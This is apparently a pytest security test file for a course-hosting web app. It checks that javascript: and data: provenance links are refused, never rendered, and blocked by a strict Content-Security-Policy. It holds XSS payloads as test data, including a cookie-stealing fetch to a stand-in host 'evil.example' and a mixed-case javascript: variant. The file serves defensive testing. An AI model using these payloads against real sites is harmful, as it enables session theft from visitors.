"""Stored XSS through provenance links, and the Content-Security-Policy that backs up escaping.

The attack: a course zip with `[provenance] origin = "javascript:..."` (or a remote course whose
lineage holds one) made the course page render `<a href="javascript:...">`, which runs in our
origin when a visitor clicks it. Now such URLs are refused where they come in (a clear 400 naming
the field), any stored before are never rendered as an href, and every page forbids inline script.
"""

from __future__ import annotations

import copy
import io
import json
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, expect
from sqlalchemy import select
from starlette.testclient import TestClient

from courses.folder import import_course
from courses.models import Course
from courses.runs import create_run
from courses.versions import publish
from federation.transport import fetch
from server.floor.accounts import create_account
from server.floor.db import session_scope
from server.floor.settings import Settings
from server.roof.app import create_app
from tests.support.browser import ACTION_TIMEOUT_MS, LiveServer, chromium, live_server  # noqa: F401  (fixtures)
from tests.web.conftest import csrf_of, log_in
from tests.web.coursepages import GENTLE, PASSWORD, start_in

WEB = Path(__file__).parents[2] / "web"
ATTACK = "javascript:fetch('//evil.example/'+document.cookie)"
ACTIVITY_JSON = "application/activity+json"


@pytest.fixture
def organizer(settings: Settings) -> Iterator[TestClient]:
    """The whole app, logged in as organizer Olga."""
    with session_scope() as db:
        create_account(db, "olga@example.org", PASSWORD, role="organizer")
    with TestClient(create_app(settings), base_url="http://testserver.localhost") as client:
        assert log_in(client, "olga@example.org").status_code == 303
        yield client


def course_zip(provenance: str) -> bytes:
    """gentle-python as an uploaded .zip, with `provenance` appended to its course.toml."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for path in sorted(GENTLE.rglob("*")):
            if path.is_file():
                text = path.read_text()
                if path.name == "course.toml":
                    text += "\n[provenance]\n" + provenance
                archive.writestr(f"gentle-python/{path.relative_to(GENTLE)}", text)
    return buffer.getvalue()


def upload(client: TestClient, archive: bytes) -> Any:
    """Submit the course import form with `archive`."""
    token = csrf_of(client, "/organize/import")
    return client.post(
        "/organize/import",
        data={"csrf_token": token},
        files={"archive": ("course.zip", archive, "application/zip")},
        follow_redirects=False,
    )


@pytest.mark.parametrize(
    ("provenance", "field"),
    [
        (f'origin = "{ATTACK}"\n', "provenance.origin"),
        (f'origin = "https://a.example/courses/x"\nlineage = ["https://a.example/courses/x", "{ATTACK}"]\n', "lineage"),
        ('origin = " JaVaScRiPt:alert(1)"\n', "provenance.origin"),
    ],
)
def test_zip_import_refuses_a_javascript_provenance(organizer: TestClient, provenance: str, field: str) -> None:
    response = upload(organizer, course_zip(provenance))
    assert response.status_code == 400
    assert field in response.text and "http:// or https:// URL" in response.text
    with session_scope() as db:
        assert db.scalar(select(Course)) is None


def test_zip_import_keeps_an_https_provenance(organizer: TestClient) -> None:
    origin = "https://a.example/courses/gentle-python"
    response = upload(organizer, course_zip(f'origin = "{origin}"\nlineage = ["{origin}"]\nversion = 3\n'))
    assert response.status_code == 303, response.text
    with session_scope() as db:
        course = db.scalar(select(Course))
        assert course is not None and course.origin == origin and course.lineage == [origin]


def remote_course(client: TestClient, lineage: list[str]) -> dict[str, Any]:
    """Our own gentle-python as another instance would serve it, claiming `lineage`."""
    with session_scope() as db:
        course = import_course(db, GENTLE)
        publish(db, course)
    served = client.get("/courses/gentle-python", headers={"Accept": ACTIVITY_JSON}).text
    remote: dict[str, Any] = json.loads(served.replace("http://testserver.localhost", "https://remote.example"))
    with session_scope() as db:
        db.delete(db.scalar(select(Course).where(Course.slug == "gentle-python")))
    return {**remote, "lineage": lineage}


def test_remote_fork_refuses_a_javascript_lineage(organizer: TestClient, monkeypatch: pytest.MonkeyPatch) -> None:
    document = remote_course(organizer, ["https://remote.example/courses/gentle-python", ATTACK])
    # The other instance is on the internet: its answer is the only thing mocked.
    monkeypatch.setattr(fetch, "get_json", lambda url, *a, **k: copy.deepcopy(document))
    token = csrf_of(organizer, "/organize/remote")
    response = organizer.post(
        "/organize/remote/fork", data={"csrf_token": token, "target": document["id"]}, follow_redirects=False
    )
    assert response.status_code == 400
    assert "lineage[1]" in response.text and "http:// or https:// URL" in response.text
    with session_scope() as db:
        assert db.scalar(select(Course)) is None


def test_a_stored_javascript_url_never_becomes_a_link(organizer: TestClient) -> None:
    # A row written before the input checks existed.
    with session_scope() as db:
        course = import_course(db, GENTLE)
        course.origin, course.lineage = ATTACK, [ATTACK, "data:text/html,<script>alert(1)</script>"]
        course.resources = [{"title": "Evil", "url": "javascript:alert(1)"}]
        course.units[0].origin = ATTACK
        publish(db, course)
    page = organizer.get("/courses/gentle-python").text
    unit = organizer.get("/courses/gentle-python/units/welcome").text
    for html in (page, unit):
        assert not re.search(r'href="\s*(javascript|data):', html, re.IGNORECASE), html
    assert page.count('href="#"') >= 3  # origin, two lineage links, the resource


def test_every_kind_of_page_carries_a_strict_policy(organizer: TestClient, settings: Settings) -> None:
    with session_scope() as db:
        course = import_course(db, GENTLE)
        publish(db, course)
        run = create_run(db, course, start_in(14), "Europe/Paris").handle
    anonymous = TestClient(create_app(settings), base_url="http://testserver.localhost")
    for client, path in [
        (anonymous, "/"),
        (anonymous, "/login"),
        (anonymous, "/courses/gentle-python"),
        (anonymous, "/no-such-page"),  # the 404 page
        (organizer, "/organize"),
        (organizer, f"/runs/{run}"),
    ]:
        response = client.get(path)
        policy = response.headers.get("content-security-policy", "")
        assert response.headers["content-type"].startswith("text/html"), path
        assert "script-src 'self'" in policy and "'unsafe-inline'" not in policy, (path, policy)
        assert "object-src 'none'" in policy and "base-uri 'none'" in policy, (path, policy)
        assert "frame-ancestors 'none'" in policy, (path, policy)
    embed = anonymous.get(f"/runs/{run}/embed")
    assert "script-src 'self'" in embed.headers["content-security-policy"]
    assert "frame-ancestors" not in embed.headers["content-security-policy"]  # other sites may frame it


def test_templates_hold_no_inline_script_style_or_handler() -> None:
    problems = []
    for template in sorted((WEB / "templates").rglob("*.html")):
        text = template.read_text()
        # Inside real tags only (the embed snippet shows an escaped `style=` as text to copy).
        for pattern in (
            r"<script(?![^>]*\bsrc=)[^>]*>",
            r"<style\b",
            r"<[a-z][^<>]*\s(style|on[a-z]+)=",
            r"javascript:",
        ):
            problems += [f"{template.relative_to(WEB)}: {m.group(0)}" for m in re.finditer(pattern, text)]
    assert problems == []


@pytest.mark.browser
def test_pages_work_in_chromium_under_the_policy_and_a_stored_javascript_link_is_dead(
    live_server: LiveServer,  # noqa: F811
    chromium: Browser,  # noqa: F811
) -> None:
    with session_scope() as db:
        olga = create_account(db, "olga@example.org", PASSWORD, role="organizer")
        course = import_course(db, GENTLE)
        course.owner_id = olga.id
        course.origin, course.lineage = "javascript:document.title='pwned'", ["javascript:document.title='pwned'"]
        publish(db, course)
        run = create_run(db, course, start_in(14), "Europe/Paris", organizer=olga).handle
    # Asia/Tokyo, so that signup.js visibly preselects the browser's zone.
    context = chromium.new_context(timezone_id="Asia/Tokyo")
    context.set_default_timeout(ACTION_TIMEOUT_MS)
    page = context.new_page()
    violations: list[str] = []
    page.on("console", lambda message: violations.append(message.text) if "Content Security" in message.text else None)
    page.on("dialog", lambda dialog: violations.append(f"a dialog opened: {dialog.message}"))
    try:
        page.goto(f"{live_server.url}/courses/gentle-python")
        page.get_by_role("link", name=re.compile("javascript")).first.click()
        expect(page).not_to_have_title("pwned")
        page.goto(f"{live_server.url}/runs/{run}")
        expect(page.get_by_label("Your time zone")).to_have_value("Asia/Tokyo")  # signup.js ran
        page.goto(f"{live_server.url}/login?next=/organize/courses/gentle-python/units/welcome")
        page.get_by_label("Email address").fill("olga@example.org")
        page.get_by_label("Password").fill(PASSWORD)
        page.get_by_role("button", name="Log in").click()
        page.get_by_role("button", name="Preview").click()
        expect(page.locator("#unit-preview")).to_contain_text("Welcome to")  # editor.js fetched it in place
        expect(page).to_have_url(re.compile(r"/units/welcome$"))
        for path in ("/", "/about", "/account", "/organize", f"/organize/runs/{run}", f"/organize/runs/{run}/mail"):
            page.goto(live_server.url + path)
            expect(page.locator("h1")).to_be_visible()
    finally:
        context.close()
    assert violations == []
